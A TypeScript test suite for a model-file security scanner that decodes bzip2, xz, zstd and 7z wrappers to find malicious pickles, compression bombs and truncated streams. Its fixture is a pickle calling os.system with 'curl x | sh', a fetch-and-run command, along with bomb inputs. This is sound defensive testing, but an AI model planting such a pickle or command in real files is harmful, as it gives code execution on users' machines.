// Compressed wrappers made by the real tools (Debian's bzip2, xz, zstd, and /usr/bin/python3's bz2
// and lzma modules): the decoded content is scanned like the file itself; truncated, corrupt,
// unsupported and over-cap streams are inconclusive (or a bomb), never clean.
import { execFileSync } from 'node:child_process';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { scanBytes } from '../../../src/core/audit/scan-file.js';
import { decodeBzip2 } from '../../../src/core/audit/decompress/bzip2.js';
import { decodeXz } from '../../../src/core/audit/decompress/xz.js';
import { decodeZstd } from '../../../src/core/audit/decompress/zstd.js';
import { DecompressError } from '../../../src/core/audit/decompress/bounded.js';
import type { FileReport } from '../../../src/core/audit/types.js';
import { benignPickle, callPickle } from './pickle-writer.js';

const tool = (cmd: string, args: string[], input: Uint8Array): Buffer =>
  execFileSync(cmd, args, { input, maxBuffer: 256 << 20 });
const python = (code: string, input: Uint8Array): Buffer =>
  execFileSync('/usr/bin/python3', ['-c', code], { input, maxBuffer: 256 << 20 });
const pyCompress = (expr: string) => (input: Uint8Array) =>
  python(`import sys, bz2, lzma; d = sys.stdin.buffer.read(); sys.stdout.buffer.write(${expr})`, input);

const evil = callPickle('os', 'system', 'curl x | sh');
const benign = benignPickle();
const rules = (r: FileReport) => r.findings.map((f) => f.rule);

/** Every way the tools write these formats that audit decodes. */
const MAKERS: { name: string; ext: string; format: string; make: (b: Uint8Array) => Buffer }[] = [
  { name: 'bzip2 -9', ext: 'bz2', format: 'bzip2', make: (b) => tool('bzip2', ['-9', '-c'], b) },
  { name: 'bzip2 -1', ext: 'bz2', format: 'bzip2', make: (b) => tool('bzip2', ['-1', '-c'], b) },
  { name: 'python bz2', ext: 'bz2', format: 'bzip2', make: pyCompress('bz2.compress(d, 5)') },
  { name: 'xz (crc64)', ext: 'xz', format: 'xz', make: (b) => tool('xz', ['-c'], b) },
  {
    name: 'xz -6e crc32',
    ext: 'xz',
    format: 'xz',
    make: (b) => tool('xz', ['-c', '-6e', '--check=crc32'], b),
  },
  { name: 'xz sha256', ext: 'xz', format: 'xz', make: (b) => tool('xz', ['-c', '--check=sha256'], b) },
  { name: 'xz no check', ext: 'xz', format: 'xz', make: (b) => tool('xz', ['-c', '--check=none'], b) },
  {
    name: 'xz -T2 blocks',
    ext: 'xz',
    format: 'xz',
    make: (b) => tool('xz', ['-c', '-T2', '--block-size=4096'], b),
  },
  { name: 'python lzma', ext: 'xz', format: 'xz', make: pyCompress('lzma.compress(d, preset=6)') },
  { name: 'zstd -19', ext: 'zst', format: 'zstd', make: (b) => tool('zstd', ['-q', '-c', '-19'], b) },
  {
    name: 'zstd --no-check',
    ext: 'zst',
    format: 'zstd',
    make: (b) => tool('zstd', ['-q', '-c', '-1', '--no-check'], b),
  },
  {
    name: 'zstd --long=27 (128 MiB window)',
    ext: 'zst',
    format: 'zstd',
    make: (b) => tool('zstd', ['-q', '-c', '--long=27'], b),
  },
];

// A pickle with a few hundred KiB of tensor-like bytes, so streams have several blocks/chunks.
const bulky = (() => {
  const payload = Buffer.alloc(300_000);
  for (let i = 0; i < payload.length; i++) payload[i] = ((i * 7919) % 251) ^ (i >> 9);
  const n = Buffer.alloc(4);
  n.writeUInt32LE(payload.length);
  return Buffer.concat([
    Buffer.from([0x80, 0x04, 0x42]),
    n,
    payload,
    Buffer.from([0x94, 0x30]),
    evil.subarray(2),
  ]);
})();

describe.each(MAKERS)('$name', ({ ext, format, make }) => {
  it('a malicious pickle inside is found, with the decoded member path', async () => {
    const r = await scanBytes(make(evil), `model.pkl.${ext}`);
    expect(r).toMatchObject({ format, verdict: 'malicious' });
    const hit = r.findings.find((f) => f.rule === 'PICKLE-DANGEROUS-GLOBAL')!;
    expect(hit.global).toBe('os.system');
    expect(hit.member).toMatch(/^model\.pkl\((bunzip2|unxz|unzstd)\)$/);
  });

  it('a benign pickle inside is clean; a multi-block payload decodes byte for byte', async () => {
    expect(await scanBytes(make(benign), `state.pkl.${ext}`)).toMatchObject({
      verdict: 'clean',
      findings: [],
    });
    const r = await scanBytes(make(bulky), `big.pkl.${ext}`);
    expect(r.verdict).toBe('malicious');
    expect(r.findings.map((f) => f.global)).toContain('os.system');
  });

  it('every truncation is inconclusive, never clean', async () => {
    const whole = make(benign);
    const cuts = [...new Set([1, 4, 10, Math.floor(whole.length / 2), whole.length - 4, whole.length - 1])];
    for (const cut of cuts.filter((c) => c > 0 && c < whole.length)) {
      const r = await scanBytes(whole.subarray(0, cut), `cut.pkl.${ext}`);
      expect(r.verdict, `cut at ${cut} of ${whole.length}`).toBe('inconclusive');
    }
    const packed = make(bulky);
    const r = await scanBytes(packed.subarray(0, packed.length >> 1), `cut.pkl.${ext}`);
    expect(r.verdict).toBe('inconclusive');
    expect(r.unscanned.join()).toMatch(/truncated|corrupt/);
  });

  it('concatenated streams (as cat a.${ext} b.${ext} makes) are read to the end: two stacked pickles', async () => {
    const r = await scanBytes(Buffer.concat([make(benign), make(evil)]), `two.pkl.${ext}`);
    expect(r.verdict).toBe('malicious');
  });

  it('trailing garbage after the last stream is inconclusive', async () => {
    const r = await scanBytes(Buffer.concat([make(benign), Buffer.from('garbage!')]), `tail.pkl.${ext}`);
    expect(r.verdict).toBe('inconclusive');
  });
});

describe('caps', () => {
  const zeros = Buffer.alloc(12 << 20);
  it.each([
    ['bzip2', 'bz2', (b: Uint8Array) => tool('bzip2', ['-9', '-c'], b)],
    ['xz', 'xz', (b: Uint8Array) => tool('xz', ['-c'], b)],
    ['zstd', 'zst', (b: Uint8Array) => tool('zstd', ['-q', '-c'], b)],
    ['gzip', 'gz', (b: Uint8Array) => gzipSync(b)],
  ])('%s ratio bomb: decoding stops at the ratio cap with COMPRESSION-BOMB', async (format, ext, make) => {
    const packed = make(zeros);
    const r = await scanBytes(packed, `bomb.pkl.${ext}`);
    expect(r).toMatchObject({ format, verdict: 'malicious' });
    expect(rules(r)).toEqual(['COMPRESSION-BOMB']);
    expect(r.findings[0]!.message).toMatch(/200:1/);
    expect(r.unscanned[0]).toMatch(/over the limit/);
  });

  it('the total decompressed cap holds across formats (low-ratio content)', async () => {
    const noise = Buffer.from(Array.from({ length: 200_000 }, (_, i) => (i * 2654435761) >>> 24));
    for (const [ext, packed] of [
      ['bz2', tool('bzip2', ['-c'], noise)],
      ['xz', tool('xz', ['-c'], noise)],
      ['zst', tool('zstd', ['-q', '-c'], noise)],
    ] as const) {
      const r = await scanBytes(packed, `noise.${ext}`, { limits: { maxDecompressedBytes: 100_000 } });
      expect(r.verdict, ext).toBe('malicious');
      expect(r.findings[0]!.message).toMatch(/past 100000 bytes, the decompression limit/);
    }
  });

  it('nested wrappers stop at the nesting cap', async () => {
    let layered: Buffer = evil;
    for (const make of [
      (b: Uint8Array) => tool('bzip2', ['-c'], b),
      (b: Uint8Array) => tool('xz', ['-c'], b),
      (b: Uint8Array) => tool('zstd', ['-q', '-c'], b),
    ])
      layered = make(layered);
    expect((await scanBytes(layered, 'deep.zst')).verdict).toBe('malicious');
    const r = await scanBytes(layered, 'deep.zst', { limits: { maxNestingDepth: 1 } });
    expect(r.verdict).toBe('inconclusive');
    expect(r.unscanned.join()).toMatch(/nested deeper than 1/);
  });

  it('each decoder stops at the deadline and at the byte cap', () => {
    const big = Buffer.alloc(3 << 20, 0x61);
    for (const [decode, packed] of [
      [decodeBzip2, tool('bzip2', ['-c'], big)],
      [decodeXz, tool('xz', ['-c'], big)],
      [decodeZstd, tool('zstd', ['-q', '-c'], big)],
    ] as const) {
      const late = () => decode(packed, { maxOutput: 1 << 30, deadline: Date.now() - 1 });
      expect(late).toThrow(DecompressError);
      expect(() => late()).toThrow(/time limit/);
      expect(() => decode(packed, { maxOutput: 1 << 20, deadline: Date.now() + 60_000 })).toThrow(
        /inflates past 1048576/,
      );
      expect(decode(packed, { maxOutput: 3 << 20, deadline: Date.now() + 60_000 }).length).toBe(3 << 20);
    }
  });
});

describe('streams audit does not decode are inconclusive with the reason', () => {
  it('xz with a BCJ filter chain', async () => {
    const packed = tool('xz', ['-c', '--x86', '--lzma2'], evil);
    const r = await scanBytes(packed, 'model.pkl.xz');
    expect(r).toMatchObject({ format: 'xz', verdict: 'inconclusive', findings: [] });
    expect(r.unscanned[0]).toMatch(/unsupported xz stream \(xz filter 0x4.*unxz/);
  });

  it('zstd frame that needs a dictionary', async () => {
    // Frame header: dictionary-id flag 1 with id 7, window 1 KiB, then one raw last block.
    const frame = Buffer.concat([
      Buffer.from([0x28, 0xb5, 0x2f, 0xfd, 0x01, 0x00, 0x07]),
      Buffer.from([((evil.length << 3) | 1) & 0xff, (evil.length << 3) >> 8, 0]),
      evil,
    ]);
    const r = await scanBytes(frame, 'model.pkl.zst');
    expect(r.verdict).toBe('inconclusive');
    expect(r.unscanned[0]).toMatch(/needs dictionary 7/);
  });

  it('a zstd window larger than the output cap is refused before any allocation', async () => {
    const frame = Buffer.from([0x28, 0xb5, 0x2f, 0xfd, 0x00, 0xf8, 0x01, 0x00, 0x00]);
    expect(() => decodeZstd(frame, { maxOutput: 1 << 20, deadline: Date.now() + 1000 })).toThrow(/window/);
  });

  it('bit flips inside CRC-protected streams are caught', async () => {
    for (const [ext, packed] of [
      ['bz2', tool('bzip2', ['-c'], bulky)],
      ['xz', tool('xz', ['-c'], bulky)],
    ] as const) {
      const bad = Buffer.from(packed);
      bad[Math.floor(bad.length / 2)]! ^= 0x10;
      const r = await scanBytes(bad, `flip.pkl.${ext}`);
      expect(r.verdict, ext).toBe('inconclusive');
    }
  });
});

describe('7z packed streams', () => {
  /** A 7z signature header in front of a raw LZMA2 stream made by `xz --format=raw`, header unread. */
  const fake7z = (content: Uint8Array) => {
    const packed = tool('xz', ['-c', '--format=raw', '--lzma2=preset=6'], content);
    const head = Buffer.alloc(32);
    Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0x00, 0x04]).copy(head);
    head.writeBigUInt64LE(BigInt(packed.length), 12);
    head.writeBigUInt64LE(4n, 20);
    return Buffer.concat([head, packed, Buffer.from([0x01, 0x04, 0x06, 0x00])]);
  };

  it('an LZMA2-compressed payload is decoded and found; the unread header keeps a note', async () => {
    const r = await scanBytes(fake7z(evil), 'weights.7z');
    expect(r).toMatchObject({ format: '7z', verdict: 'malicious' });
    expect(r.findings.find((f) => f.global === 'os.system')!.member).toBe('(7z LZMA2 stream)');
    expect(r.unscanned[0]).toMatch(/header is not parsed/);
  });

  it('a benign solid block is inconclusive (header unread), never clean', async () => {
    const r = await scanBytes(fake7z(benign), 'weights.7z');
    expect(r).toMatchObject({ format: '7z', verdict: 'inconclusive', findings: [] });
  });
});
